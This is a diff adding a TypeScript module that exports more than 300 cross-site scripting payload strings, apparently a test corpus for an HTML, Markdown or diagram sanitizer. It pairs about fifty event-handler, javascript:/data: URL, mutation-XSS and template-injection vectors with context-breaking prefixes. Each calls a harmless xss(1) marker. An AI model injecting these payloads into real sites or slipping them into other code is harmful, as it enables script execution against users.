@@ -1,0 +1,61 @@
+/** What somebody writes who wants a browser to run it: each asks for `xss()` in a way of its own. */
+const asks = 'xss(1)'
+
+const handlers = [
+  `<img src=x onerror=${asks}>`,
+  `<svg onload=${asks}>`,
+  `<svg><animate onbegin=${asks} attributeName=x dur=1s>`,
+  `<svg><script>${asks}</script></svg>`,
+  `<svg><a xlink:href="javascript:${asks}"><text y=20>x</text></a></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${asks}</script>"></iframe></foreignObject></svg>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${asks}>`,
+  `<math href="javascript:${asks}">x</math>`,
+  `<script>${asks}</script>`,
+  `<script src="data:text/javascript,${asks}"></script>`,
+  `<ScRiPt >${asks}</sCrIpT>`,
+  `<body onload=${asks}>`,
+  `<iframe src="javascript:${asks}"></iframe>`,
+  `<iframe srcdoc="<img src=x onerror=parent.${asks}>"></iframe>`,
+  `<object data="javascript:${asks}"></object>`,
+  `<embed src="data:text/html,<script>${asks}</script>">`,
+  `<details open ontoggle=${asks}>x</details>`,
+  `<input autofocus onfocus=${asks}>`,
+  `<select autofocus onfocus=${asks}></select>`,
+  `<textarea autofocus onfocus=${asks}></textarea>`,
+  `<video><source onerror=${asks}></video>`,
+  `<audio src=x onerror=${asks}>`,
+  `<marquee onstart=${asks}>x</marquee>`,
+  `<form action="javascript:${asks}"><button>x</button></form>`,
+  `<button formaction="javascript:${asks}" form=x>x</button>`,
+  `<a href="javascript:${asks}">x</a>`,
+  `<a href="JaVaScRiPt:${asks}">x</a>`,
+  `<a href="java&#x0A;script:${asks}">x</a>`,
+  `<a href="&#x6a;avascript:${asks}">x</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=">x</a>`,
+  `<a href="vbscript:${asks}">x</a>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${asks}">`,
+  `<base href="javascript:${asks}//">`,
+  `<link rel=stylesheet href="data:text/css,*{}" onload=${asks}>`,
+  `<style onload=${asks}>*{}</style>`,
+  `<template><img src=x onerror=${asks}></template><img src=x onerror=${asks}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${asks}>"></noscript>`,
+  `<div style="animation-name:x" onanimationstart=${asks}>x</div>`,
+  `<p popover id=q onbeforetoggle=${asks}>x</p><button popovertarget=q>x</button>`,
+  `<xss contenteditable autofocus tabindex=1 onfocus=${asks}>x</xss>`,
+  `[x](javascript:${asks})`,
+  `[x](<javascript:${asks}>)`,
+  `![x](x"onerror="${asks})`,
+  `<javascript:${asks}>`,
+  `[x]: javascript:${asks} "x"`,
+  `javascript:${asks}//`,
+  `%%{init: {"theme":"base","themeCSS":"</style><img src=x onerror=${asks}>"}}%%`,
+  `click A call ${asks}`,
+  `{{constructor.constructor('${asks}')()}}`,
+  `\${${asks}}`,
+]
+
+/** What stands before it, to get out of where it was put. */
+const ways = ['', '">', `'>`, '</title></style></textarea>', '<!--><', ']]>', '\\u003c/script>']
+
+/** More than 300, each a line. */
+export const scriptsInText: readonly string[] = [...new Set(ways.flatMap((way) => handlers.map((handler) => `${way}${handler}`)))]
